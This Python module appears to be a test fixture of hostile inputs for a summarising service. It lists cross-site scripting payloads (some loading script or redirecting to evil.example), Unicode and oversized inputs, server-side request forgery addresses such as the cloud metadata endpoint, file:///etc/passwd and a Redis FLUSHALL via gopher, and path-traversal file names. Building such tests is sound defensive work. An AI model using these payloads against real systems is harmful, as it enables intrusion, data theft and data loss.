"""Inputs that want to run, to escape, to reach inside, or to bring the program down."""

from dataclasses import dataclass

from serving import ARTICLE

#: What an attack that runs in a browser leaves behind.
MARK = "window.hit"


@dataclass(frozen=True)
class Attack:
    """One hostile input, as text or address."""

    name: str
    text: str


MARKUP = (
    Attack("script", f"<script>{MARK}=1</script>"),
    Attack("script in capitals, never closed", f"<SCRIPT SRC=//evil.example/x.js>{MARK}=2"),
    Attack("event handler", f'<img src=x onerror="{MARK}=3">'),
    Attack("event handler without quotes", f"<body onload={MARK}=4>"),
    Attack("svg", f'<svg onload="{MARK}=5"><animate onbegin="{MARK}=6" attributeName=x></svg>'),
    Attack("frame", f'<iframe srcdoc="<script>parent.{MARK}=7</script>"></iframe>'),
    Attack("javascript address", f'<a href="javascript:{MARK}=8" autofocus onfocus="{MARK}=9">read on</a>'),
    Attack(
        "style", "<style>@import url(http://evil.example/x.css); .ns-panel{background:url(http://evil.example)}</style>"
    ),
    Attack("style expression", f'<div style="width:expression({MARK}=10)">x</div>'),
    Attack("entities", f"&lt;img src=x onerror=&quot;{MARK}=11&quot;&gt; &#60;script&#62;{MARK}=12&#60;/script&#62;"),
    Attack("attribute break-out", f"\"'><img src=x onerror={MARK}=13> ` ' \" onmouseover={MARK}=14 x="),
    Attack("comment and cdata", f"<!--><script>{MARK}=15</script--> <![CDATA[<script>{MARK}=16</script>]]>"),
    Attack(
        "template braces", f"{{{{constructor.constructor('{MARK}=17')()}}}} ${{{MARK}=18}} <%={MARK}%> #{{7*7}} {{7*7}}"
    ),
    Attack("markdown link", f"[read](javascript:{MARK}=19) ![x](http://evil.example/pixel.png) <http://evil.example>"),
    Attack("maths", rf"$$\href{{javascript:{MARK}=20}}{{x}}$$ \(\unicode{{x3c}}img\)"),
    Attack(
        "base and refresh",
        '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example">',
    ),
)

CHARACTERS = (
    Attack("bidi overrides", "The price was \u202e000,1\u202c euros \u2066\u2067\u2068 and \u202bnot\u202a closed."),
    Attack("zero-width flood", "hid\u200b\u200c\u200d\u2060\ufeffden " + "\u200b" * 50_000),
    Attack("combining flood", "Z" + "\u0301\u0327\u0489" * 10_000 + " said the mayor."),
    Attack("null bytes", "The pool\x00 opened\x00\x00 again."),
    Attack("control and ANSI sequences", "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x08\x08\x7f\x9b1m \r overwritten"),
    Attack("lone surrogates", "half \ud83d a pair \ude00 and \udfff more"),
    Attack("noncharacters and private use", "\ufffe\uffff\U0010ffff\ue000 \U000e0041\U000e0042 tags"),
    Attack("line separators", "one\u2028two\u2029three\x85four\x0bfive\x0csix"),
    Attack("variation selectors", "\u2764" + "\ufe0f\U000e0100" * 5_000),
)

SIZES = (
    Attack("five megabytes", ARTICLE + "\n" + "The pool opened on Saturday. " * 180_000),
    Attack("one word of five megabytes", "x" * 5_000_000),
    Attack("a hundred thousand open tags", "<div>" * 100_000 + ARTICLE),
    Attack("a hundred thousand brackets", "[" * 100_000 + "](" * 50_000 + ARTICLE),
    Attack("blank lines", "\n" * 500_000 + ARTICLE),
    Attack("nothing that shows", "\u200b\u2060\u00a0\u3000\ufeff" * 1_000),
    Attack("JSON within JSON", '{"text": ' * 20_000),
)

ADDRESSES = tuple(
    Attack(address, address)
    for address in (
        "http://127.0.0.1/",
        "http://localhost:22/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://0177.0.0.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[64:ff9b::7f00:1]/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/",
        "http://user:password@127.0.0.1/",
        "http://127.0.0.1#@example.org/",
        "http://\u2460\u2461\u2466.0.0.1/",
        "http://0/",
        "file:///etc/passwd",
        "FILE:/etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/stat",
        "ftp://127.0.0.1/",
        "data:text/html,<script>1</script>",
        "javascript:alert(1)",
        "http://",
        "http://127.0.0.1\r\nHost: evil.example/",
        "//127.0.0.1/",
        "\x00http://127.0.0.1/",
    )
)

FILE_NAMES = (
    "../../../../tmp/summarizer-escaped.txt",
    "/tmp/summarizer-escaped.txt",
    "..\\..\\summarizer-escaped.txt",
    "%2e%2e%2fsummarizer-escaped.txt",
    "summarizer\x00-escaped.txt",
    "CON.txt",
    "x" * 5_000 + ".txt",
    f"<img src=x onerror={MARK}=21>.txt",
    "\u202etxt.exe",
    ".",
    "..",
    "",
)

#: Where a file name might lead to, and must not.
ESCAPED = "/tmp/summarizer-escaped.txt"
